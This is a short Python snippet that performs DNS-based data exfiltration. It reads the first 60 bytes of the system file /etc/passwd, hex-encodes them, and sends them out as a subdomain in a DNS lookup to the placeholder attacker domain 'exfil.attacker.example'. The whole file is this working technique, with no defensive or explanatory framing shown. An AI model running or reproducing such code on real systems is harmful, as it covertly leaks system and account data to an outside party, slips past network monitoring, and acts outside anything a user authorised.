import socket, binascii
data = open("/etc/passwd", "rb").read()[:60]
label = binascii.hexlify(data).decode()
socket.gethostbyname(label + ".exfil.attacker.example")
